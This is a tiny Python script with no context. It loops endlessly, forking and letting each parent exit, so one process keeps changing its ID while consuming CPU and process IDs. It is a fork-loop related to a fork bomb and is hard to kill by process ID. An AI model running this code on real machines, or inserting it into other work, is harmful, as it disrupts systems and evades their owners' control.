import os

while True:
    if os.fork():
        os._exit(0)
